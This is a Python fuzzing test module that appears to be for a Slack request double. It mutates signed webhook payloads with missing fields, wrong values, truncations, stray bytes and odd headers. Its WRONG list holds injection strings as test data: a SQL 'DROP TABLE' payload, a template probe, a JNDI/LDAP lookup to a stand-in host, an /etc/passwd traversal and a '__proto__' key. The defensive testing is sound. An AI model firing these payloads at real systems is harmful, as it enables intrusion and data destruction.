"""Requests that are nearly right: a payload with one or a few things wrong, correctly signed."""

import json
import math
import random
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode

from tests.slack_double.seeds import Seed
from tests.slack_double.ways import COMMAND, EVENT, encoded

JSON, FORM = "application/json", "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Bytes:
    """A request before it is signed; ``pieces`` are what arrives at a time."""

    body: bytes
    headers: dict[str, str] = field(default_factory=dict)
    pieces: int = 1
    what: str = ""


def _nested(depth: int) -> Any:
    inner: Any = "inderst"
    for _ in range(depth):
        inner = {"a": [inner]}
    return inner


WRONG: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    2**63,
    -(2**63) - 1,
    1e308,
    1.5,
    math.nan,
    "",
    "x" * 20_000,
    "\0",
    "\ud800",
    "👩🏽‍⚕️",
    {},
    [],
    [[]],
    _nested(20),
    _nested(40),
    "'; DROP TABLE idea; --",
    "<!channel> {{7*7}} ${jndi:ldap://ond.example} ../../etc/passwd",
    "1" * 400,
)


def mutated(seed: Seed, dice: random.Random) -> Bytes:
    """Return a request made of the seed with something wrong in it."""
    return dice.choice(_MUTATORS)(seed, dice)


def junk(dice: random.Random) -> Bytes:
    """Return bytes that mean nothing."""
    bodies = (
        b"",
        dice.randbytes(dice.randrange(2_000)),
        b"[" * 100_000,
        b'{"a":' * 50_000,
        b"null",
        b'"hej"',
        b"[1,2]",
        b"payload=" + dice.randbytes(50).hex().encode(),
        b"payload=%zz%",
        b"\xff\xfe\x00",
        json.dumps({"type": "event_callback", "event": _nested(50)}).encode(),
        b'{"type": "url_verification", "challenge": "kom ind"}',
        b"ssl_check=1",
        b"x" * 2**20 + b"y",
    )
    kinds = (JSON, FORM, "text/plain", "multipart/form-data; boundary=x", "")
    body, kind = dice.choice(bodies), dice.choice(kinds)
    return Bytes(body, {"Content-Type": kind} if kind else {}, what="junk")


def _wrapped(seed: Seed, payload: Any, what: str) -> Bytes:
    """Encode a payload that may not be one any more."""
    if seed.kind == COMMAND:
        pairs = {name: _as_text(value) for name, value in payload.items()}
        return Bytes(
            urlencode(pairs, errors="surrogatepass").encode(), {"Content-Type": FORM}, 1, what
        )
    text = json.dumps(payload)
    body = text if seed.kind == EVENT else urlencode({"payload": text})
    return Bytes(body.encode(), {"Content-Type": JSON if seed.kind == EVENT else FORM}, 1, what)


def _as_text(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value)


def _paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [path] if path else []
    if isinstance(value, dict):
        found += [deeper for name in value for deeper in _paths(value[name], (*path, name))]
    elif isinstance(value, list):
        inner = enumerate(value)
        found += [deeper for place, each in inner for deeper in _paths(each, (*path, place))]
    return found


def _parent(payload: Any, path: tuple[Any, ...]) -> Any:
    for step in path[:-1]:
        payload = payload[step]
    return payload


def _without_something(seed: Seed, dice: random.Random) -> Bytes:
    payload = deepcopy(seed.payload)
    path = dice.choice(_paths(payload))
    del _parent(payload, path)[path[-1]]
    return _wrapped(seed, payload, f"{seed.name} without {path}")


def _with_something_wrong(seed: Seed, dice: random.Random) -> Bytes:
    payload = deepcopy(seed.payload)
    what = []
    for _ in range(dice.choice((1, 1, 1, 2, 3))):
        path = dice.choice(_paths(payload))
        place = dice.randrange(len(WRONG))
        _parent(payload, path)[path[-1]] = deepcopy(WRONG[place])
        what.append(f"{path}={place}")
    return _wrapped(seed, payload, f"{seed.name} with {what}")


def _with_something_more(seed: Seed, dice: random.Random) -> Bytes:
    payload = deepcopy(seed.payload)
    name = dice.choice(("type", "event", "user", "team", "__proto__", "payload", "x" * 5_000))
    payload[name] = deepcopy(dice.choice(WRONG))
    return _wrapped(seed, payload, f"{seed.name} and {name[:20]}")


def _swapped(seed: Seed, dice: random.Random) -> Bytes:
    """Put one part of the payload where another belongs."""
    payload = deepcopy(seed.payload)
    to, source = dice.choice(_paths(payload)), dice.choice(_paths(payload))
    value = deepcopy(_parent(payload, source)[source[-1]])
    _parent(payload, to)[to[-1]] = value
    return _wrapped(seed, payload, f"{seed.name} {source} at {to}")


def _plain(seed: Seed) -> Bytes:
    kind, body = encoded(seed.kind, seed.payload)
    return Bytes(body, {"Content-Type": kind}, 1, seed.name)


def _cut_off(seed: Seed, dice: random.Random) -> Bytes:
    whole = _plain(seed)
    cut = dice.randrange(len(whole.body))
    return Bytes(whole.body[:cut], whole.headers, 1, f"{seed.name} cut at {cut}")


def _with_a_byte_wrong(seed: Seed, dice: random.Random) -> Bytes:
    whole = _plain(seed)
    body = bytearray(whole.body)
    for _ in range(dice.choice((1, 3, 20))):
        body[dice.randrange(len(body))] = dice.randrange(256)
    return Bytes(bytes(body), whole.headers, 1, f"{seed.name} with bytes wrong")


def _said_twice(seed: Seed, _: random.Random) -> Bytes:
    whole = _plain(seed)
    if seed.kind == EVENT:
        body = b'{"type": "event_callback", ' + whole.body.lstrip()[1:]
    else:
        body = whole.body + b"&" + whole.body
    return Bytes(body, whole.headers, 1, f"{seed.name} twice")


def _with_odd_headers(seed: Seed, dice: random.Random) -> Bytes:
    whole = _plain(seed)
    odd = dice.choice(
        (
            {"Content-Type": "text/plain"},
            {"Content-Type": ""},
            {"Content-Type": "application/json; charset=utf-16"},
            {"Content-Type": FORM if seed.kind == EVENT else JSON},
            {"Content-Encoding": "gzip"},
            {"Transfer-Encoding": "chunked"},
            {"Content-Length": "1"},
            {"X-Slack-Retry-Num": "999999999999", "X-Slack-Retry-Reason": "\u00e6"},
            {"X-Forwarded-For": "127.0.0.1", "Host": "ond.example"},
        )
    )
    return Bytes(whole.body, {**whole.headers, **odd}, 1, f"{seed.name} with {odd}")


def _in_pieces(seed: Seed, dice: random.Random) -> Bytes:
    whole = _plain(seed)
    return Bytes(whole.body, whole.headers, dice.choice((2, 7, 50)), f"{seed.name} in pieces")


def _with_garbage(seed: Seed, dice: random.Random) -> Bytes:
    garbage = dice.choice((b"%", b"%zz", b"%ff%fe", b"%00", b"&&&=&", b"\r\n\r\n", b";"))
    whole = _plain(seed)
    place = dice.randrange(len(whole.body))
    body = whole.body[:place] + garbage + whole.body[place:]
    return Bytes(body, whole.headers, 1, f"{seed.name} with {garbage!r}")


def _nothing_wrong(seed: Seed, _: random.Random) -> Bytes:
    return _plain(seed)


_MUTATORS: tuple[Callable[[Seed, random.Random], Bytes], ...] = (
    _without_something,
    _without_something,
    _with_something_wrong,
    _with_something_wrong,
    _with_something_wrong,
    _with_something_more,
    _swapped,
    _cut_off,
    _with_a_byte_wrong,
    _said_twice,
    _with_odd_headers,
    _in_pieces,
    _with_garbage,
    _nothing_wrong,
)
